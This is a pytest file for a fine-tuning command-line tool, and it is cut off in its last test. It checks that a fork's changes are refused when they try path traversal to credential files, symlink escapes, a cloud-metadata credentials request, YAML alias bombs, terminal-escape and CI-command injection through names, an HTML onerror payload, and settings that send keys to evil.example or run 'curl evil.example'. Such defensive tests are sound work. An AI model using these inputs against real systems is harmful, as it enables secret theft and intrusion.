"""What a fork's pull request may try, one line each, and what it gets instead."""

from __future__ import annotations

import hashlib
import json
import os
import re
import socket
import subprocess
import sys
from collections.abc import Callable, Iterator, Mapping
from dataclasses import dataclass
from itertools import pairwise
from pathlib import Path

import pytest
from conftest import FINETUNE, KEY, Shell, chat_rows, small_project
from file_server import FileServer, Shelf
from plain_server import PlainServer, World

from ftctl.data.sources import is_listed
from ftctl.engine.base_revision import BaseFile, note_of_differences, read_base, rows_at
from ftctl.errors import FtctlError
from ftctl.manifest import MOST_BYTES, MOST_FILES
from ftctl.project.document_cache import Documents
from ftctl.project.link import link
from ftctl.project.load import Project, load_project
from ftctl.project.locate import locate

SOURCE = "../data/train.jsonl"
_MOST_LINES = 20

SECRET = "OUTSIDE-7f3a"  # stands in every file that must not be read

# A program that git, or anybody, would start: it leaves a trace.
PROGRAM = "#!/bin/sh\ntouch {trace}\n"

SETTINGS = """\
project: acme
provider: {type: openai, base_url: "https://api.openai.com/v1", api_key_env: ACME_KEY}
prune: false
policy:
  max_cost_per_job: 10
  commands: [[conftest, test, "-"]]
environments:
  prod:
    provider: {type: openai, organization: org-acme}
    policy: {max_jobs_created: 1}
    defaults: {seed: 1}
sources:
  addresses: ["https://data.acme.example/rows/"]
quality: {secrets: error}
"""


def git(folder: Path, *arguments: str) -> str:
    """git as a person would run it, without that person's settings."""
    identity = ["-c", "user.name=a", "-c", "user.email=a@b.c", "-c", "init.defaultBranch=main"]
    clean = {name: value for name, value in os.environ.items() if not name.startswith("GIT_")}
    done = subprocess.run(
        ["git", *identity, *arguments], cwd=folder, env={**clean, "GIT_CONFIG_GLOBAL": os.devnull},
        capture_output=True, text=True, check=True,
    )  # fmt: skip
    return done.stdout.strip()


def commit(folder: Path, message: str = "change") -> None:
    git(folder, "add", "--all")
    git(folder, "commit", "--quiet", "--allow-empty", "-m", message)


@pytest.fixture
def checkout(tmp_path: Path, shell: Shell) -> Path:
    """A repository with a small project on its branch `main`; beside it, what is nobody's."""
    (tmp_path / "outside").mkdir()
    (tmp_path / "outside" / "rows.jsonl").write_text(chat_rows(12, SECRET), "utf-8")
    (tmp_path / "outside" / "tone.yaml").write_text(f"name: {SECRET}\n", "utf-8")
    root = tmp_path / "repository"
    for name, text in small_project().items():
        (root / name).parent.mkdir(parents=True, exist_ok=True)
        (root / name).write_text(text, "utf-8")
    git(root, "init", "--quiet")
    commit(root, "base")
    git(root, "checkout", "--quiet", "-b", "fork")
    shell.folder = root
    return root


Change = Callable[[Path], object]


@dataclass(frozen=True)
class Attack:
    """What a pull request tries, and all that `validate` then prints."""

    tries: str
    change: Change
    gets: str
    status: int = 1
    form: str = "text"


def source(text: str, link: str | None = None) -> Change:
    """A fine-tune on that source; `link` is where data/link leads."""

    def change(root: Path) -> None:
        manifest = FINETUNE.replace(SOURCE, json.dumps(text))
        (root / "finetunes" / "tone.yaml").write_text(manifest, "utf-8")
        if link is not None:
            (root / "data" / "link").symlink_to(link)

    return change


def both(*changes: Change) -> Change:
    """One after the other."""
    return lambda root: [change(root) for change in changes]


def wrote(name: str, content: str | bytes) -> Change:
    """A file of the repository."""

    def change(root: Path) -> None:
        (root / name).parent.mkdir(parents=True, exist_ok=True)
        (root / name).write_bytes(content.encode() if isinstance(content, str) else content)

    return change


def linked(name: str, target: str) -> Change:
    """A link in the repository."""

    def change(root: Path) -> None:
        (root / name).parent.mkdir(parents=True, exist_ok=True)
        (root / name).symlink_to(target)

    return change


def piped(name: str) -> Change:
    """A pipe that nobody writes to."""
    return lambda root: os.mkfifo(root / name)


def listening(root: Path) -> None:
    """A socket in place of the data; its path may not be long."""
    with socket.socket(socket.AF_UNIX) as listener:
        here = Path.cwd()
        os.chdir(root / "data")
        try:
            listener.bind("socket")
        finally:
            os.chdir(here)


def huge(name: str, size: int) -> Change:
    """A file with a hole of that size."""

    def change(root: Path) -> None:
        (root / name).touch()
        os.truncate(root / name, size)

    return change


def crowded(root: Path) -> None:
    """More manifests than a project has."""
    folder = root / "finetunes" / "crowd"
    folder.mkdir()
    for number in range(MOST_FILES + 1):
        (folder / f"{number}.yaml").touch()


def more(text: str) -> Change:
    """The manifest with more at its end."""
    return wrote("finetunes/tone.yaml", FINETUNE + text)


def _bomb(merge: str) -> str:
    names = "abcdefghijkl"
    first = "a: &a {k: [" + "x," * 100 + "]}\n"
    return first + "".join(
        f"{name}: &{name} {{k: [{', '.join([f'*{before}'] * 10)}]{merge.format(before)}}}\n"
        for before, name in pairwise(names)
    )


SOURCES = (
    Attack(
        "reads a file above the repository",
        source("../../outside/rows.jsonl"),
        (
            "finetunes/tone.yaml:5:20: error[source-outside]: '../outside/rows.jsonl' lies"
            " outside the repository\n"
            "    hint: copy it into the repository, or have ftctl.yaml list its folder:"
            " 'sources: {outside: [DIR]}'\n"
        ),
    ),
    Attack(
        "reads a file of the machine by its whole path",
        source("/etc/passwd"),
        (
            "finetunes/tone.yaml:5:20: error[source-outside]: '…/etc/passwd' lies outside"
            " the repository\n"
            "    hint: copy it into the repository, or have ftctl.yaml list its folder:"
            " 'sources: {outside: [DIR]}'\n"
        ),
    ),
    Attack(
        "reads over a link to a file",
        source("../data/link", "../../outside/rows.jsonl"),
        (
            "finetunes/tone.yaml:5:20: error[source-outside]: 'data/link' is reached over a"
            " link that leads outside the repository\n"
            "    hint: copy it into the repository, or have ftctl.yaml list its folder:"
            " 'sources: {outside: [DIR]}'\n"
        ),
    ),
    Attack(
        "reads over a link to a folder",
        source("../data/link/rows.jsonl", "../../outside"),
        (
            "finetunes/tone.yaml:5:20: error[source-outside]: 'data/link/rows.jsonl' is"
            " reached over a link that leads outside the repository\n"
            "    hint: copy it into the repository, or have ftctl.yaml list its folder:"
            " 'sources: {outside: [DIR]}'\n"
        ),
    ),
    Attack(
        "reads over a link to a link",
        both(source("../data/link", "second"), linked("data/second", "../../outside/rows.jsonl")),
        (
            "finetunes/tone.yaml:5:20: error[source-outside]: 'data/link' is reached over a"
            " link that leads outside the repository\n"
            "    hint: copy it into the repository, or have ftctl.yaml list its folder:"
            " 'sources: {outside: [DIR]}'\n"
        ),
    ),
    Attack(
        "asks whether a file exists, by a link to where there is none",
        source("../data/link", "/root/.ssh/id_ed25519-none"),
        (
            "finetunes/tone.yaml:5:20: error[source-outside]: 'data/link' is reached over a"
            " link that leads outside the repository\n"
            "    hint: copy it into the repository, or have ftctl.yaml list its folder:"
            " 'sources: {outside: [DIR]}'\n"
        ),
    ),
    Attack(
        "has ftctl.yaml allow the link that leads out",
        both(
            source("../data/link/rows.jsonl", "../../outside"),
            wrote("ftctl.yaml", "project: demo\nsources: {outside: [data/link]}\n"),
        ),
        (
            "finetunes/tone.yaml:5:20: error[source-outside]: 'data/link/rows.jsonl' is"
            " reached over a link that leads outside the repository\n"
            "    hint: copy it into the repository, or have ftctl.yaml list its folder:"
            " 'sources: {outside: [DIR]}'\n"
        ),
    ),
    Attack(
        "reads the token that a checkout in CI leaves behind",
        source("../.git/config"),
        (
            "finetunes/tone.yaml:5:20: error[source-outside]: '.git/config' is one of git's"
            " own files\n"
            "    hint: copy it out of .git, into the repository\n"
        ),
    ),
    Attack(
        "reads the environment of the run",
        source("/proc/self/environ"),
        (
            "finetunes/tone.yaml:5:20: error[source-outside]: '…/proc/self/environ' lies"
            " outside the repository\n"
            "    hint: copy it into the repository, or have ftctl.yaml list its folder:"
            " 'sources: {outside: [DIR]}'\n"
        ),
    ),
    Attack(
        "reads without end",
        source("../data/link", "/dev/zero"),
        (
            "finetunes/tone.yaml:5:20: error[source-outside]: 'data/link' is reached over a"
            " link that leads outside the repository\n"
            "    hint: copy it into the repository, or have ftctl.yaml list its folder:"
            " 'sources: {outside: [DIR]}'\n"
        ),
    ),
    Attack(
        "waits for a pipe",
        both(source("../data/pipe"), piped("data/pipe")),
        (
            "finetunes/tone.yaml:5:20: error[not-a-regular-file]: data/pipe: the path is a"
            " pipe, not a file\n"
            "    hint: name a file: it is read again for the upload\n"
        ),
    ),
    Attack(
        "connects to a socket",
        both(source("../data/socket"), listening),
        (
            "finetunes/tone.yaml:5:20: error[not-a-regular-file]: data/socket: the path is a"
            " socket, not a file\n"
            "    hint: name a file: it is read again for the upload\n"
        ),
    ),
    Attack(
        "follows a link to itself",
        source("../data/link", "link"),
        (
            "finetunes/tone.yaml:5:20: error[unreadable-file]: data/link: the file cannot be"
            " read: too many levels of symbolic links\n"
            "    hint: check the path and the file's permissions\n"
        ),
    ),
    Attack(
        "reads by the defaults of ftctl.yaml",
        both(
            wrote(
                "ftctl.yaml",
                "project: demo\ndefaults: {validation: {source: ../outside/rows.jsonl}}\n",
            ),
        ),
        (
            "ftctl.yaml:2:33: error[source-outside]: '../outside/rows.jsonl' lies outside"
            " the repository\n"
            "    hint: copy it into the repository, or have ftctl.yaml list its folder:"
            " 'sources: {outside: [DIR]}'\n"
        ),
    ),
    Attack(
        "converts a file outside",
        wrote(
            "finetunes/faq.yaml",
            "apiVersion: ftctl/v1\nkind: Dataset\nname: faq\nsource: /etc/passwd\n"
            'convert: {template: {user: "{a}", assistant: "{b}"}}\n',
        ),
        (
            "finetunes/faq.yaml:4:9: error[source-outside]: '…/etc/passwd' lies outside the"
            " repository\n"
            "    hint: copy it into the repository, or have ftctl.yaml list its folder:"
            " 'sources: {outside: [DIR]}'\n"
        ),
    ),
    Attack(
        "asks the cloud's own address for the machine's keys",
        source("http://169.254.169.254/latest/meta-data/iam/security-credentials"),
        (
            "finetunes/tone.yaml:5:20: error[unencrypted-address]:"
            " 'http://169.254.169.254/latest/meta-data/iam/security-credentials' is read"
            " without encryption\n"
            "    hint: write https://\n"
        ),
    ),
    Attack(
        "names a local file as an address",
        source("file:///etc/passwd"),
        (
            "finetunes/tone.yaml:5:20: error[unknown-scheme]: 'file:///etc/passwd' starts"
            " with 'file://'; ftctl reads s3://, gs://, az://, abfs://, hf:// and https://\n"
            "    hint: a file on this machine is named by its path\n"
        ),
    ),
    Attack(
        "has a file that is larger than any",
        both(source("../data/huge"), huge("data/huge", 600_000_000)),
        (
            "data/huge: error[file-too-large]: the file has 600,000,000 bytes; the service"
            " takes at most 536,870,912 (512 MB)\n"
            "    hint: train on fewer rows, or shorten them\n"
        ),
    ),
    Attack(
        "writes lines of its own into the log by a file's name",
        both(source("../data/a\n::add-mask::e\n"), wrote("data/a\n::add-mask::e\n", chat_rows(12))),
        (
            "finetunes/tone.yaml:5:20: error[unprintable-path]: the path"
            " 'data/a\\n::add-mask::e\\n' holds characters that cannot be shown\n"
            "    hint: rename the file, or its folder\n"
        ),
    ),
)

MANIFESTS = (
    Attack(
        "shows a file of the machine as a manifest",
        linked("finetunes/other.yaml", "/etc/passwd"),
        (
            "finetunes/other.yaml: error[source-outside]: 'finetunes/other.yaml' is reached"
            " over a link that leads outside the repository\n"
            "    hint: copy it into the repository, or have ftctl.yaml list its folder:"
            " 'sources: {outside: [DIR]}'\n"
        ),
    ),
    Attack(
        "brings manifests from outside",
        linked("finetunes/team", "../../outside"),
        (
            "finetunes/team: error[source-outside]: 'finetunes/team' is reached over a link"
            " that leads outside the repository\n"
            "    hint: copy it into the repository, or have ftctl.yaml list its folder:"
            " 'sources: {outside: [DIR]}'\n"
        ),
    ),
    Attack(
        "makes the manifests' folder a link",
        both(
            lambda root: (root / "finetunes" / "tone.yaml").unlink(),
            lambda root: (root / "finetunes").rmdir(),
            linked("finetunes", "../outside"),
        ),
        (
            "finetunes: error[source-outside]: 'finetunes' is reached over a link that leads"
            " outside the repository\n"
            "    hint: copy it into the repository, or have ftctl.yaml list its folder:"
            " 'sources: {outside: [DIR]}'\n"
        ),
    ),
    Attack(
        "looks for manifests above the repository",
        wrote("ftctl.yaml", "project: demo\nmanifests: ../..\n"),
        (
            "ftctl.yaml:2:12: error[source-outside]: '../..' lies outside the repository\n"
            "    hint: copy it into the repository, or have ftctl.yaml list its folder:"
            " 'sources: {outside: [DIR]}'\n"
        ),
    ),
    Attack(
        "looks for manifests on the whole machine",
        wrote("ftctl.yaml", "project: demo\nmanifests: /\n"),
        (
            "ftctl.yaml:2:12: error[source-outside]: '/' lies outside the repository\n"
            "    hint: copy it into the repository, or have ftctl.yaml list its folder:"
            " 'sources: {outside: [DIR]}'\n"
        ),
    ),
    Attack(
        "makes ftctl.yaml a link",
        both(lambda root: (root / "ftctl.yaml").unlink(), linked("ftctl.yaml", "/etc/passwd")),
        (
            "ftctl.yaml: error[source-outside]: 'ftctl.yaml' is reached over a link that"
            " leads outside the repository\n"
            "    hint: make it a file of the repository\n"
        ),
    ),
    Attack(
        "waits for a manifest",
        piped("finetunes/pipe.yaml"),
        ("finetunes/pipe.yaml: error[unreadable-file]: the file is not a regular file\n"),
    ),
    Attack(
        "has caches written elsewhere",
        linked(".ftctl/cache", "../../outside"),
        (
            ".ftctl/cache: error[source-outside]: '.ftctl/cache' is reached over a link that"
            " leads outside the repository\n"
            "    hint: remove the link\n"
        ),
    ),
    Attack(
        "multiplies aliases",
        more("metadata:\n  " + _bomb("").replace("\n", "\n  ")),
        (
            "finetunes/tone.yaml:10:50: error[yaml-too-large]: aliases expand to more than"
            " 100,000 values\n"
            "    hint: a manifest needs no more; is this file one?\n"
        ),
    ),
    Attack(
        "multiplies merged mappings",
        more("metadata:\n  " + _bomb(", <<: *{}").replace("\n", "\n  ")),
        (
            "finetunes/tone.yaml:10:46: error[yaml-too-large]: aliases expand to more than"
            " 100,000 values\n"
            "    hint: a manifest needs no more; is this file one?\n"
        ),
    ),
    Attack(
        "repeats a long text by aliases",
        more(f'metadata: {{a: &a "{"x" * 500_000}", b: [{"*a, " * 1000}]}}\n'),
        (
            "finetunes/tone.yaml:6:500102: error[yaml-too-large]: aliases expand to more"
            " than 100,000 values\n"
            "    hint: a manifest needs no more; is this file one?\n"
        ),
    ),
    Attack(
        "has an anchor hold itself",
        more("metadata: &a {b: *a}\n"),
        (
            "finetunes/tone.yaml:6:18: error[yaml-alias]: the alias '*a' has no anchor"
            " before it\n"
            "    hint: mark a value with '&a' first\n"
        ),
    ),
    Attack(
        "nests deeply",
        more("metadata: " + "[" * 100_000),
        (
            "finetunes/tone.yaml:6:74: error[yaml-too-large]: values are nested deeper than"
            " 64 levels\n"
            "    hint: a manifest needs no more; is this file one?\n"
        ),
    ),
    Attack(
        "nests deeply in JSON",
        wrote("finetunes/a.json", '{"a":' * 100_000),
        (
            "finetunes/a.json:1:321: error[yaml-too-large]: values are nested deeper than 64"
            " levels\n"
            "    hint: a manifest needs no more; is this file one?\n"
        ),
    ),
    Attack(
        "has more keys than a mapping",
        more("".join(f"k{n}: 1\n" for n in range(60_000))),
        (
            "finetunes/tone.yaml:30000:9: error[yaml-too-large]: the file holds more than"
            " 30,000 values\n"
            "    hint: a manifest needs no more; is this file one?\n"
        ),
    ),
    Attack(
        "has more faults than anybody reads",
        more("a: no\n" * 60_000),
        (
            "finetunes/tone.yaml:6:4: error[yaml-boolean]: 'no' is false in YAML 1.1 and"
            " text in YAML 1.2\n"
            '    hint: write false, or "no" in quotes if the word is meant\n'
            "… 1998 lines …\n"
            "ftctl.yaml: error[too-many-problems]: there are more than 1,000 problems; not"
            " all are listed\n"
            "    hint: mend these first\n"
        ),
    ),
    Attack(
        "has more documents than anybody reads",
        wrote("finetunes/a.yaml", "---\na\n" * 40_000),
        (
            "finetunes/a.yaml:2:1: error[not-a-manifest]: the document is 'a'; expected a"
            " mapping\n"
            "    hint: a manifest starts with 'apiVersion: ftctl/v1', 'kind: …' and 'name:"
            " …'\n"
            "… 1998 lines …\n"
            "ftctl.yaml: error[too-many-problems]: there are more than 1,000 problems; not"
            " all are listed\n"
            "    hint: mend these first\n"
        ),
    ),
    Attack(
        "has a long line",
        wrote("finetunes/a.yaml", f"a: {'x' * MOST_BYTES}\n"),
        (
            "finetunes/a.yaml: error[yaml-too-large]: the file has more than 1,048,576"
            " bytes, which is as much as is read\n"
            "    hint: is this file a manifest?\n"
        ),
    ),
    Attack(
        "has a manifest of 500 MB",
        huge("finetunes/a.yaml", 500_000_000),
        (
            "finetunes/a.yaml: error[yaml-too-large]: the file has more than 1,048,576"
            " bytes, which is as much as is read\n"
            "    hint: is this file a manifest?\n"
        ),
    ),
    Attack(
        "has NUL bytes",
        wrote("finetunes/a.yaml", b"name: a\0b\n"),
        (
            "finetunes/a.yaml:1:8: error[control-character]: U+0000 NULL cannot stand in"
            " YAML\n"
            "    hint: remove it: perl -CSD -pi -e 's/[\\x{0}]//g' finetunes/a.yaml\n"
        ),
    ),
    Attack(
        "is in UTF-16",
        wrote("finetunes/a.yaml", "name: a\n".encode("utf-16")),
        (
            "finetunes/a.yaml:1:1: error[not-utf-8]: the file is in UTF-16\n"
            "    hint: save it as UTF-8: iconv -f UTF-16 -t UTF-8 finetunes/a.yaml"
            " > finetunes/a.yaml.new && mv finetunes/a.yaml.new finetunes/a.yaml\n"
        ),
    ),
    Attack(
        "has more manifests than a project",
        crowded,
        (
            "finetunes: error[too-many-manifests]: the manifests' folder 'finetunes' holds"
            " more than 20,000 manifests\n"
            "    hint: make several projects of it; is 'manifests' the right folder?\n"
        ),
    ),
    Attack(
        "commands the runner by a file's name",
        wrote("finetunes/\n::set-output name=a::b.yaml", FINETUNE),
        (
            "finetunes/\\n::set-output name=a::b.yaml: error[unprintable-path]: the path"
            " 'finetunes/\\n::set-output name=a::b.yaml' holds characters that cannot be"
            " shown\n"
            "    hint: rename the file, or its folder\n"
        ),
    ),
    Attack(
        "commands the runner by a folder's name",
        both(
            wrote("ftctl.yaml", 'project: demo\nmanifests: "::error title=x"\n'),
            wrote("::error title=x/a.yaml", "name: no\n"),
        ),
        (
            "./::error title=x/a.yaml:1:1: error[missing-key]: 'kind' is missing\n"
            "    hint: add 'kind: Dataset' or 'kind: FineTune'\n"
            "./::error title=x/a.yaml:1:7: error[yaml-boolean]: 'no' is false in YAML 1.1"
            " and text in YAML 1.2\n"
            '    hint: write false, or "no" in quotes if the word is meant\n'
        ),
    ),
)

ESCAPES = "\\e[2J\\e]0;owned\\a\\u202Eevil"
TEXTS = (
    Attack(
        "clears the terminal by a name",
        more(f'suffix: "{ESCAPES}"\n'),
        (
            "finetunes/tone.yaml:6:9: error[not-served]: emulator does not take the suffix"
            " '[2J]0;ownedevil'\n"
            "    hint: change the field, or choose another service with 'provider' in"
            " ftctl.yaml\n"
            "finetunes/tone.yaml:6:10: error[control-character]: an escape stands for U+001B"
            " ESCAPE (and 3 characters like it), which cannot stand in YAML\n"
            "    hint: take the escape out\n"
        ),
    ),
    Attack(
        "clears the terminal by a key",
        more(f'"{ESCAPES}": 1\n'),
        (
            "finetunes/tone.yaml:6:2: error[control-character]: an escape stands for U+001B"
            " ESCAPE (and 3 characters like it), which cannot stand in YAML\n"
            "    hint: take the escape out\n"
        ),
    ),
    Attack(
        "clears the terminal by a key that stands twice",
        more(f'metadata: {{"{ESCAPES}": "a", "{ESCAPES}": "b"}}\n'),
        (
            "finetunes/tone.yaml:6:13: error[control-character]: an escape stands for U+001B"
            " ESCAPE (and 3 characters like it), which cannot stand in YAML\n"
            "    hint: take the escape out\n"
            "finetunes/tone.yaml:6:48: error[repeated-key]: the key"
            " '\\x1b[2J\\x1b]0;owned\\x07\\u202eevil' stands twice in one mapping\n"
            "    hint: it already stands in line 6; keep one\n"
            "finetunes/tone.yaml:6:49: error[control-character]: an escape stands for U+001B"
            " ESCAPE (and 3 characters like it), which cannot stand in YAML\n"
            "    hint: take the escape out\n"
        ),
    ),
    Attack(
        "turns the direction of writing by a value",
        more("method: \u202edpo\n"),
        (
            "finetunes/tone.yaml:6:9: error[invisible-character]: U+202E RIGHT-TO-LEFT"
            " OVERRIDE has text shown in another order than it is read in\n"
            "    hint: remove it: perl -CSD -pi -e 's/[\\x{202E}]//g' finetunes/tone.yaml\n"
        ),
    ),
    Attack(
        "commands the runner by a value",
        more('method: "x\\n::set-output name=a::b"\n'),
        (
            "::error file=finetunes/tone.yaml,line=6,col=9,title=wrong-value::'method' is"
            " 'x\\n::set-output name=a::b'; expected 'supervised', 'dpo' or 'reinforcement'\n"
        ),
        form="github",
    ),
    Attack(
        "commands the runner by a value in the old way",
        more('method: "##[add-mask]e"\n'),
        (
            "finetunes/tone.yaml:6:9: error[wrong-value]: 'method' is '#\\#[add-mask]e';"
            " expected 'supervised', 'dpo' or 'reinforcement'\n"
        ),
    ),
    Attack(
        "ends a property of an annotation by a file's name",
        wrote("finetunes/a,line=1::b%0A.yaml", "name: no\n"),
        (
            "::error file=finetunes/a%2Cline=1%3A%3Ab%250A.yaml,line=1,col=1,title=missing-ke"
            "y::'kind' is missing (add 'kind: Dataset' or 'kind: FineTune')\n"
            "::error file=finetunes/a%2Cline=1%3A%3Ab%250A.yaml,line=1,col=7,title=yaml-boole"
            "an::'no' is false in YAML 1.1 and text in YAML 1.2 (write false, or \"no\" in"
            " quotes if the word is meant)\n"
        ),
        form="github",
    ),
    Attack(
        "leaves a string of JSON by a value",
        more('method: "\\"}], \\"ok\\": true"\n'),
        (
            "{\n"
            '  "format_version": "1.0",\n'
            '  "ok": false,\n'
            '  "problems": [\n'
            "    {\n"
            '      "code": "wrong-value",\n'
            '      "column": 9,\n'
            '      "hint": null,\n'
            '      "line": 6,\n'
            "      \"message\": \"'method' is '\\\"}], \\\"ok\\\": true'; expected 'supervised',"
            " 'dpo' or 'reinforcement'\",\n"
            '      "path": "finetunes/tone.yaml",\n'
            '      "severity": "error"\n'
            "    }\n"
            "  ]\n"
            "}\n"
        ),
        form="json",
    ),
    Attack(
        "puts HTML into a message",
        more('method: "<img src=x onerror=alert(1)>"\n'),
        (
            "finetunes/tone.yaml:6:9: error[wrong-value]: 'method' is '<img src=x"
            " onerror=alert(1)>'; expected 'supervised', 'dpo' or 'reinforcement'\n"
        ),
    ),
    Attack(
        "puts a key into a message",
        more("method: sk-live-0123456789abcdef\n"),
        (
            "finetunes/tone.yaml:6:9: error[written-key]: 'method' holds what looks like an OpenAI"
            " key, in a file that git keeps\n    hint: take it out\n"
            "finetunes/tone.yaml:6:9: error[wrong-value]: 'method' is '[redacted]'; expected"
            " 'supervised', 'dpo' or 'reinforcement'\n"
        ),
    ),
)

ATTACKS = {
    f"{kind}: {attack.tries}": attack
    for kind, attacks in (("source", SOURCES), ("manifest", MANIFESTS), ("text", TEXTS))
    for attack in attacks
}


@pytest.mark.parametrize("name", ATTACKS)
def test_what_a_fork_tries_gets_it_a_clear_refusal(
    name: str, checkout: Path, shell: Shell, tmp_path: Path
) -> None:
    attack = ATTACKS[name]
    attack.change(checkout)

    result = shell("validate", "--format", attack.form)

    told = _shortened(re.sub(r"(\.\./)+(?=etc|proc)", "…/", result.out))
    assert (told, result.status) == (attack.gets, attack.status)
    assert SECRET not in result.out + result.err


def _shortened(text: str) -> str:
    """The first and the last two lines of what is too long to be read."""
    lines = text.splitlines(keepends=True)
    if len(lines) <= _MOST_LINES:
        return text
    return "".join([*lines[:2], f"… {len(lines) - 4} lines …\n", *lines[-2:]])


# In a second and 200 MiB more than it had: measured where nobody else's work counts.
_BOUNDED = """\
import resource, sys, time
from ftctl.cli.main import run
with open("/proc/self/statm") as file:
    have = int(file.read().split()[0]) * resource.getpagesize()
resource.setrlimit(resource.RLIMIT_AS, (have + 200 * 2**20,) * 2)
resource.setrlimit(resource.RLIMIT_FSIZE, (2**20,) * 2)
before = time.process_time()
status = run(["validate"])
print(status, time.process_time() - before, file=sys.stderr)
"""
_SECONDS = 2.0  # a machine that does nothing else needs less than one

_HEAVY = [
    "manifest: waits for a manifest",
    "manifest: multiplies aliases",
    "manifest: multiplies merged mappings",
    "manifest: repeats a long text by aliases",
    "manifest: nests deeply",
    "manifest: nests deeply in JSON",
    "manifest: has more keys than a mapping",
    "manifest: has more faults than anybody reads",
    "manifest: has more documents than anybody reads",
    "manifest: has a long line",
    "manifest: has a manifest of 500 MB",
    "manifest: has more manifests than a project",
    "source: reads without end",
    "source: waits for a pipe",
    "source: has a file that is larger than any",
]


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="reads /proc")
@pytest.mark.parametrize("name", _HEAVY)
def test_what_is_made_to_exhaust_ends_in_a_second_and_little_memory(
    name: str, checkout: Path
) -> None:
    ATTACKS[name].change(checkout)

    done = subprocess.run(
        [sys.executable, "-c", _BOUNDED], cwd=checkout, capture_output=True, text=True,
        check=True, timeout=60,
    )  # fmt: skip

    status, seconds = done.stderr.split()[-2:]
    assert (status, float(seconds) < _SECONDS) == ("1", True), done.stderr[-300:]


def test_folders_that_nest_deeper_than_calls_are_looked_through(
    checkout: Path, shell: Shell
) -> None:
    deep = checkout / "finetunes" / "/".join("d" * 1200)
    subprocess.run(["mkdir", "-p", str(deep)], check=True)
    (deep / "a.yaml").write_text(FINETUNE, "utf-8")

    result = shell("validate")

    # Python's own way to take such folders away calls itself for each.
    subprocess.run(["rm", "-rf", str(checkout / "finetunes" / "d")], check=True)
    assert "error[name-used-twice]: there are two FineTunes named 'tone'" in result.out


def test_a_file_that_grows_while_it_is_read_is_read_to_its_limit(tmp_path: Path) -> None:
    # Of what is below /proc, no size is told before it is read.
    program = (
        "import sys; from pathlib import Path; from ftctl.manifest import read_bytes;"
        "print(len(read_bytes(Path('/proc/self/status'), 'a')) > 0)"
    )

    done = subprocess.run(
        [sys.executable, "-c", program], capture_output=True, text=True, check=True
    )

    assert done.stdout == "True\n"


# What a change to ftctl.yaml would like to have at once.

SETTINGS_ATTACKS: Mapping[str, tuple[str, str]] = {
    "sends the key to another host": (
        SETTINGS.replace("https://api.openai.com/v1", "https://evil.example/v1"),
        "provider",
    ),
    "sends another secret of the machine as the key": (
        SETTINGS.replace("ACME_KEY", "AWS_SECRET_ACCESS_KEY"),
        "provider",
    ),
    "sends a secret of the machine as a header": (
        SETTINGS.replace("ACME_KEY}", "ACME_KEY, headers: {x-a: {env: AWS_SECRET_ACCESS_KEY}}}"),
        "provider",
    ),
    "has a program print the key": (
        SETTINGS.replace("api_key_env: ACME_KEY", "api_key_command: [sh, -c, evil]"),
        "provider",
    ),
    "lets manifests send what they like": (
        SETTINGS.replace("ACME_KEY}", "ACME_KEY, variables: [AWS_SECRET_ACCESS_KEY]}"),
        "provider",
    ),
    "raises the limit of cost": (SETTINGS.replace("job: 10", "job: 10000"), "policy"),
    "takes the policy out": (
        re.sub(r"(?m)^policy:\n(  .*\n)+", "", SETTINGS),
        "policy",
    ),
    "has a program run": (
        SETTINGS.replace('[conftest, test, "-"]', "[sh, -c, curl evil.example]"),
        "policy",
    ),
    "has everything deleted that left": (
        SETTINGS.replace("prune: false", "prune: true"),
        "prune",
    ),
    "calls itself another team's project": (
        SETTINGS.replace("project: acme\n", "project: payments\n"),
        "project",
    ),
    "loosens what counts in production": (
        SETTINGS.replace("{max_jobs_created: 1}", "{max_jobs_created: 1000}"),
        "environments",
    ),
    "takes an environment's limits out": (
        SETTINGS.replace("    policy: {max_jobs_created: 1}\n", ""),
        "environments",
    ),
    "fetches from where it likes": (
        SETTINGS.replace('["https://data.acme.example/rows/"]', '["https://evil.example/"]'),
        "sources",
    ),
    "reads the whole machine": (
        SETTINGS.replace("sources:\n", 'sources:\n  outside: ["/"]\n'),
        "sources",
    ),
    "lets secrets in data pass": (SETTINGS.replace("secrets: error", "secrets: ignore"), "quality"),
    "takes over what others have trained": (SETTINGS + "reuse: account\n", "reuse"),
    "says that training is free": (
        SETTINGS + "catalog: {openai: {gpt-4.1-mini-2025-04-14: {usd_per_million_tokens: 0}}}\n",
        "catalog",
    ),
}


def based(root: Path, environment: str | None = None) -> tuple[BaseFile, Project]:
    base = read_base(root, "main")
    project, problems = load_project(root, environment, Documents(), base.document)
    assert project is not None, problems
    return base, project


@pytest.fixture
def settled(checkout: Path) -> Path:
    """The checkout with settings on `main`."""
    git(checkout, "checkout", "--quiet", "main")
    (checkout / "ftctl.yaml").write_text(SETTINGS, "utf-8")
    commit(checkout, "settings")
    git(checkout, "checkout", "--quiet", "-b", "another")
    return checkout


@pytest.mark.parametrize("environment", [None, "prod"])
@pytest.mark.parametrize("tries", SETTINGS_ATTACKS)
def test_settings_that_a_fork_changes_do_not_count(
    tries: str, environment: str | None, settled: Path, shell: Shell
) -> None:
    text, key = SETTINGS_ATTACKS[tries]
    assert text != SETTINGS
    _, before = based(settled, environment)

    (settled / "ftctl.yaml").write_text(text, "utf-8")
    commit(settled)
    base, project = based(settled, environment)

    assert project.config == before.config
    assert project.config.project == "acme"
    note = f"ftctl.yaml changes {key} with this change: what main says counts until it is merged"
    assert project.own is not None
    assert note_of_differences(base, project.own) == note
    result = shell.ok("validate", "--base", "main", *(("--env", "prod") if environment else ()))
    assert result.err == f"note: {note}\n"


def test_a_key_goes_to_no_host_that_a_fork_names(
    checkout: Path, shell: Shell, world: World
) -> None:
    theirs = World()
    git(checkout, "checkout", "--quiet", "main")
    with PlainServer(world) as server, PlainServer(theirs) as evil:
        settings = f'project: demo\nprovider: {{type: compatible, base_url: "{server.url}"}}\n'
        (checkout / "ftctl.yaml").write_text(settings, "utf-8")
        commit(checkout, "settings")
        git(checkout, "checkout", "--quiet", "-B", "fork")
        changed = settings.replace(server.url, evil.url)
        (checkout / "ftctl.yaml").write_text(changed, "utf-8")
        shell.environ["OPENAI_API_KEY"] = KEY

        result = shell("plan", "--base", "main", "-v")

    assert result.status == 0, result
    assert (theirs.requests, KEY in result.out + result.err) == ([], False)
    assert world.requests


TOKEN_PROGRAM = """\
import pathlib, sys
print("token-of-THIS")
pathlib.Path(sys.argv[1]).touch()
"""


def test_a_fork_does_not_bring_along_the_program_that_prints_the_key(
    checkout: Path, shell: Shell, world: World, tmp_path_factory: pytest.TempPathFactory
) -> None:
    ran = tmp_path_factory.mktemp("ran")
    git(checkout, "checkout", "--quiet", "main")
